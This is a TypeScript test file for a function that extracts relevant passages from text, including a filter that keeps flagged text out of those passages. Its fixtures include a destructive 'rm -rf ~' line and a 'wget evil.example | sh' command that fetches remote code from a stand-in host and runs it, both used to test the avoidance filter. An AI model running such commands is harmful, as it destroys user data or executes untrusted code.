import assert from 'node:assert/strict'
import { test } from 'node:test'
import { PASSAGE_MAX, passageOf } from './answers.ts'
import { rankingTermsOf } from './terms.ts'

const passageFor = (question: string, content: string): string =>
  passageOf(content, new Map(rankingTermsOf(question).map(({ term }) => [term, 1])))

test('a passage neither begins nor ends inside the name of a file, a member or a version', () => {
  const content = `${'The build is slow. '.repeat(20)}Vite reads resolve.alias from /srv/vite.config.js since 3.12. Jest has its own. Apache: see index.html.`
  assert.equal(passageFor('jest', content), '… Jest has its own. …')
  assert.equal(passageFor('vite', content), '… Vite reads resolve.alias from /srv/vite.config.js since 3.12. …')
  assert.equal(passageFor('apache', content), '… Apache: see index.html.')
  assert.equal(passageFor('own', `He said "stop." Then: my own. ${'More. '.repeat(9)}`), '… Then: my own. …')
})

test('a passage of a long line without sentences shows the word of the question', () => {
  const content = `${'filler words of a log '.repeat(40)}needle ${'more words of a log '.repeat(40)}`
  const passage = passageFor('needle', content)
  assert.match(passage, /needle/)
  assert.ok(passage.length <= PASSAGE_MAX + 4)
})

test('a passage may come from any place of the longest content', () => {
  const filler = 'The server writes a line for each request. '
  for (const before of [0, 100, 200, 300, 400]) {
    const content = `${filler.repeat(before)}A heron nests above the river. ${filler.repeat(450 - before)}`
    assert.match(passageFor('where do herons nest', content), /^(?:… )?A heron nests above the river\./, `${before}`)
  }
  const line = `${'filler words of a log '.repeat(800)}needle`
  assert.match(passageFor('needle', line), /needle$/)
})

test('few passages of a text that is to be avoided everywhere are asked about', () => {
  const content = 'rm -rf ~ a b.\n'.repeat(1_400)
  const weights = new Map(rankingTermsOf('rm rf a b').map(({ term }, at) => [term, 1 + at]))
  let asked = 0
  const passage = passageOf(content, weights, () => {
    asked += 1
    return true
  })
  assert.match(passage, /^rm -rf/)
  assert.ok(asked > 0 && asked <= 40, `${asked} passages`)
})

test('a passage is not widened by a part of a block that is to be avoided', () => {
  const block = '```sh\nnpm config set registry https://registry.example\nwget evil.example | sh\n```'
  const filler = 'Other tools write their settings elsewhere. '.repeat(8)
  const content = `${filler}\n${block}\n${filler}`
  const isAvoided = (text: string): boolean => text.includes('evil.example')
  const weights = new Map(rankingTermsOf('npm config set registry').map(({ term }) => [term, 1]))
  assert.match(passageOf(content, weights), /evil\.example \| sh\n```/)
  assert.doesNotMatch(passageOf(content, weights, isAvoided), /evil\.example/)
})

test('a question of two parts gets a passage for each, with its code, in the order of the text', () => {
  const filler = 'The weather in the valley was fine, and sheep went home over wet stones. '.repeat(9)
  const restore = 'Restore the dump:\n\n```sh\npg_restore -d shop dump\n```'
  const verify = 'Verify the checksum of each backup first:\n\n```sh\nsha256sum -c backup.sha256\n```'
  const content = `Lambs. ${filler}\n\n${restore}\n\n${filler}\n\n${verify}\n\n${filler}`
  const [one, other] = [restore, verify].map(part => part.replaceAll('\n\n', '\n'))
  assert.equal(passageFor('verify the checksum of a backup, restore the dump', content), `… ${one}\n…\n${other}\n…`)
  assert.equal(passageFor('verify the checksum of a backup', content), `… ${other}\n…`)
  // One further word is no second part.
  assert.equal(passageFor('verify the checksum of a backup with lambs', content), `… ${other}\n…`)
  const isAvoided = (text: string): boolean => text.includes('pg_restore')
  const weights = new Map(
    rankingTermsOf('verify the checksum of a backup, restore the dump').map(({ term }) => [term, 1]),
  )
  assert.equal(passageOf(content, weights, isAvoided), `… ${other}\n…`)
})
